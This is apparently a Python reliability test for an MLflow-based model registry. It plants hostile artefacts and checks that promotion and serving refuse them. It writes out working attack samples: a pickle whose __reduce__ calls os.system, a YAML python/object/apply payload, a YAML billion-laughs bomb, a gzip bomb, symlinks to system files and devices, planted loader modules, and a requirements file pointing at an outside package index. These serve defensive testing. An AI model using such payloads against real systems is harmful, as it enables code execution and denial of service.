"""Row 2: no artefact, however made, runs code.

Each hostile version is planted in a real MLflow store, and promotion is tried; what lies in the
folder that serving reads is then offered to serving. A payload that ran would leave a marker.

    PYTHONPATH=src:api:tests python -m reliability.row02_hostile_artefacts
"""

import gzip
import io
import os
import pickle
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import yaml
from reliability.scorecard import Row
from versions import NAME, small_definition, trained_small

from riskmodel.errors import ModelError
from riskmodel.modelling.artifact import LARGEST_FILE
from riskmodel.registry.champion import place_version, prove_placed, read_placed_version
from riskmodel.registry.history import person
from riskmodel.registry.pointer import Pointer
from riskmodel.registry.proving import Limits
from riskmodel.registry.tracking import Registry, Version

PROPOSER, APPROVER = person("Wang Fang", "it is offered"), person("Li Na", "it looks well")
Harm = Callable[[Path, "Payload"], None]


class Payload:
    """Leaves a marker where it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)

    @property
    def source(self) -> str:
        """The same as a module."""
        return f"import pathlib\npathlib.Path({str(self.marker)!r}).touch()\n"


@dataclass
class Stored:
    """One version in a store on this machine, as its files lie there."""

    registry: Registry
    version: Version
    artifact: Path
    model: Path


def _mlmodel(folder: Path, flavor: str, **changes: object) -> None:
    path = folder / "MLmodel"
    told = yaml.safe_load(path.read_text())
    told["flavors"].setdefault(flavor, {}).update(changes)
    path.write_text(yaml.safe_dump(told))


def _pickled(folder: Path, payload: Payload, form: str | None) -> None:
    (folder / "model.lgb").write_bytes(pickle.dumps(payload))
    _mlmodel(
        folder, "lightgbm", model_class="lightgbm.sklearn.LGBMClassifier",
        serialization_format=form,
    )  # fmt: skip


def _skops(folder: Path, payload: Payload) -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("schema.json", '{"__class__": "system", "__module__": "os"}')
    (folder / "model.lgb").write_bytes(content.getvalue())
    _mlmodel(folder, "lightgbm", skops_trusted_types=["os.system"])
    _mlmodel(folder, "lightgbm", model_class="lightgbm.sklearn.LGBMClassifier")


def _loader(folder: Path, payload: Payload) -> None:
    (folder / "code").mkdir()
    (folder / "code" / "planted_loader.py").write_text(payload.source)
    _mlmodel(folder, "python_function", loader_module="planted_loader", code="code")


def _code(folder: Path, payload: Payload) -> None:
    (folder / "code").mkdir()
    (folder / "code" / "lightgbm.py").write_text(payload.source)
    _mlmodel(folder, "lightgbm", code="code")


def _yaml(folder: Path, payload: Payload) -> None:
    run = f'!!python/object/apply:os.system ["touch {payload.marker}"]'
    (folder / "MLmodel").write_text(f"flavors: {run}\n")


def _yaml_bomb(folder: Path, _: Payload) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    (folder / "MLmodel").write_text("\n".join(lines))


def _outside(folder: Path, payload: Payload, how: str) -> None:
    (folder.parent / "other.txt").write_bytes((folder / "model.lgb").read_bytes())
    absolute = str(folder.parent / "other.txt")
    _mlmodel(folder, "lightgbm", data=absolute if how == "absolute" else "../other.txt")


def _requirements(folder: Path, _: Payload) -> None:
    (folder / "requirements.txt").write_text("--index-url http://192.0.2.1/simple\nlightgbm\n")


def _replace(name: str, make: Callable[[Path, Payload], None]) -> Harm:
    """Put something else where a file of the version lies."""

    def harm(folder: Path, payload: Payload) -> None:
        (folder / name).unlink(missing_ok=True)
        make(folder / name, payload)

    return harm


def _linked(path: Path, _: Payload) -> None:
    path.symlink_to("/etc/hostname")


def _hard_linked(path: Path, payload: Payload) -> None:
    outside = payload.marker.parent / f"outside-{path.name}"
    outside.write_text("tree\nother bytes\n")
    path.hardlink_to(outside)


def _device(path: Path, _: Payload) -> None:
    path.symlink_to("/dev/zero")


def _huge(path: Path, _: Payload) -> None:
    with path.open("wb") as file:
        file.truncate(LARGEST_FILE * 64)


def _bomb(path: Path, _: Payload) -> None:
    path.write_bytes(gzip.compress(bytes(2**26)))


def _plant(path: Path, payload: Payload) -> None:
    path.write_bytes(pickle.dumps(payload))


MODEL_HARMS: dict[str, Harm] = {
    "pickle": lambda f, p: _pickled(f, p, "pickle"),
    "cloudpickle": lambda f, p: _pickled(f, p, "cloudpickle"),
    "a pickle of no said form": lambda f, p: _pickled(f, p, None),
    "skops": _skops,
    "LGBMClassifier": lambda f, _: _mlmodel(
        f, "lightgbm", model_class="lightgbm.sklearn.LGBMClassifier"
    ),
    "loader_module": _loader,
    "code/": _code,
    "data: ../x": lambda f, p: _outside(f, p, "relative"),
    "data: /x": lambda f, p: _outside(f, p, "absolute"),
    "another flavour": lambda f, _: _mlmodel(f, "sklearn", pickled_model="model.pkl"),
    "a YAML object": _yaml,
    "a YAML bomb": _yaml_bomb,
    "packages from elsewhere": _requirements,
    "MLflow's trees a link": _replace("model.lgb", _linked),
    "MLflow's trees a device": _replace("model.lgb", _device),
}
"""Done to MLflow's own folder of the version."""

ARTIFACT_HARMS: dict[str, Harm] = {
    "a pickle for the trees": _replace("model.txt", _plant),
    "a pickle beside them": _replace("loader.pkl", _plant),
    "a module beside them": _replace("lightgbm.py", lambda path, p: path.write_text(p.source)),
    "a link": _replace("model.txt", _linked),
    "a hard link to outside": _replace("background.csv", _hard_linked),
    "a device": _replace("card.md", _device),
    "a pipe": _replace("golden.json", lambda path, _: os.mkfifo(path)),
    "a folder for a file": _replace("serving.json", lambda path, _: path.mkdir()),
    "a file of 16 GiB": _replace("evaluation.json", _huge),
    "a zip bomb": _replace("model.txt", _bomb),
}
"""Done to the artefact, in MLflow's store and in the folder that serving reads."""


def refused_by(act: Callable[[], object]) -> bool:
    """Whether it raises what a person can read, and nothing else."""
    try:
        act()
    except ModelError:
        return True
    return False


def promote(stored: Stored, champions: Path) -> object:
    """Propose and promote it, as two people would."""
    stored.registry.propose(stored.version, champions, PROPOSER)
    return stored.registry.promote(stored.version, champions, APPROVER, forced=True)


def store_of(registry: Registry, version: Version) -> Stored:
    """Where the files of a version lie."""
    client = registry._client
    run = client.get_run(version.run_id).info.artifact_uri.removeprefix("file://")
    source = client.get_model_version(version.name, version.number).source
    model = client.get_logged_model(source.removeprefix("models:/")).artifact_location
    return Stored(registry, version, Path(run) / "artifact", Path(model.removeprefix("file://")))


def in_the_store(stored: Stored, folder: Path, harm: Harm, scratch: Path) -> bool:
    """Whether promotion refuses it, and nothing ran; the store is as before afterwards."""
    kept = _kept(folder)
    marker = scratch / "marker"
    harm(folder, Payload(marker))
    try:
        refused = refused_by(lambda: promote(stored, scratch / "champions"))
    finally:
        _restore(folder, kept)
    return refused and not marker.exists() and not list(scratch.glob("champions/*/champion.json"))


def in_serving(source: Path, sha256: str, harm: Harm, scratch: Path) -> bool:
    """Whether serving refuses it where it lies, and nothing ran."""
    champions, marker = scratch / "champions", scratch / "marker"
    pointer = Pointer(name=NAME, version="1", artifact_sha256=sha256)
    folder = champions / NAME / pointer.folder
    folder.mkdir(parents=True)
    _restore(folder, _kept(source))
    harm(folder, Payload(marker))
    acts: tuple[Callable[[], object], ...] = (
        lambda: read_placed_version(champions, pointer),
        lambda: prove_placed(champions, pointer, Limits()),
        lambda: place_version(champions, NAME, "2", folder, sha256),
    )
    return all(refused_by(act) for act in acts) and not marker.exists()


def _kept(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def _restore(folder: Path, kept: dict[str, bytes]) -> None:
    for path in sorted(folder.rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
    for name, content in kept.items():
        (folder / name).write_bytes(content)


def measure(registered: tuple[Registry, Version] | None = None) -> Row:
    """Try every hostile version on a registered one, or on one of its own."""
    if registered is None:
        with tempfile.TemporaryDirectory() as state:
            return measure(a_small_one(Path(state)))
    stored = store_of(*registered)
    version = stored.version
    outcomes: dict[str, bool] = {}
    with tempfile.TemporaryDirectory() as scratch:
        for number, (name, harm) in enumerate(MODEL_HARMS.items()):
            place = Path(scratch) / f"m{number}"
            place.mkdir()
            outcomes[f"promoting, {name}"] = in_the_store(stored, stored.model, harm, place)
        for number, (name, harm) in enumerate(ARTIFACT_HARMS.items()):
            place = Path(scratch) / f"a{number}"
            place.mkdir()
            outcomes[f"promoting, {name}"] = in_the_store(stored, stored.artifact, harm, place)
            place = Path(scratch) / f"s{number}"
            place.mkdir()
            outcomes[f"serving, {name}"] = in_serving(
                stored.artifact, version.artifact_sha256, harm, place
            )
    let_in = [name for name, refused in outcomes.items() if not refused]
    figure = f"{len(outcomes) - len(let_in)} of {len(outcomes)} refused, no marker" + (
        f"; not: {', '.join(let_in)}" if let_in else ""
    )
    return Row(
        2, "Loading an artefact cannot run code", "12 of 12 refused, 0 markers", figure, not let_in
    )


def a_small_one(state: Path) -> tuple[Registry, Version]:
    """A store with one registered version that is trained for it."""
    registry, text = Registry(state), small_definition()
    return registry, registry.register(trained_small(text), text, "test")


if __name__ == "__main__":
    sys.stdout.write(f"{measure()}\n")
